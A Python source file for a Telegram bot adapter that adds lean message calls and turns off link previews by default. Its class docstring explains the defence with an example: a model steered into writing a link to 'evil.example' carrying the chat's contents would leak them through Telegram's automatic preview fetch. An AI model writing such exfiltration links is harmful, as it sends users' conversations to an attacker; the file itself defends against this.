"""The Bot the Telegram adapter talks through: PTB's, with two leaner calls."""

from __future__ import annotations

from typing import Any

from telegram import Bot

# Bot API 7.0's link_preview_options (disable_web_page_preview before it).
NO_PREVIEW: dict[str, Any] = {"link_preview_options": {"is_disabled": True}}


class RawBot(Bot):
    """A Bot with two calls that skip PTB's parsing of the answer into objects.

    - getUpdates returns raw dicts, so each update is parsed on its own and one that PTB
      cannot read (a newer API shape) is skipped instead of failing the batch.
    - sendMessage returns only the sent message's id. Parsing the answer into a Message
      (its chat, sender, entities and the message it replies to) was about a third of a
      send's CPU, and only the id was ever read.

    Both go through ``Bot._post``, so the defaults, the request layer and its mapping of
    errors (BadRequest, RetryAfter, Forbidden, ...) stay PTB's own.

    Text goes out without a link preview unless ``link_previews`` (the channel's key):
    Telegram's servers fetch the first link of a message to preview it, with no one
    clicking, so a model steered into writing ``https://evil.example/?d=<what the chat
    said>`` would leak it on its own.
    """

    def __init__(self, *args: Any, link_previews: bool = False, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self._link_options: dict[str, Any] = {} if link_previews else NO_PREVIEW

    async def raw_updates(self, params: dict[str, Any], read_timeout: float) -> Any:
        return await self._post("getUpdates", params, read_timeout=read_timeout)

    async def send_text(self, **params: Any) -> str:
        """sendMessage with ``params`` as the Bot API names them; the new message's id."""
        result = await self._post("sendMessage", {**params, **self._link_options})
        return str(result["message_id"])

    async def edit_text(self, **params: Any) -> None:
        """editMessageText with ``params`` as the Bot API names them (answer not parsed)."""
        await self._post("editMessageText", {**params, **self._link_options})
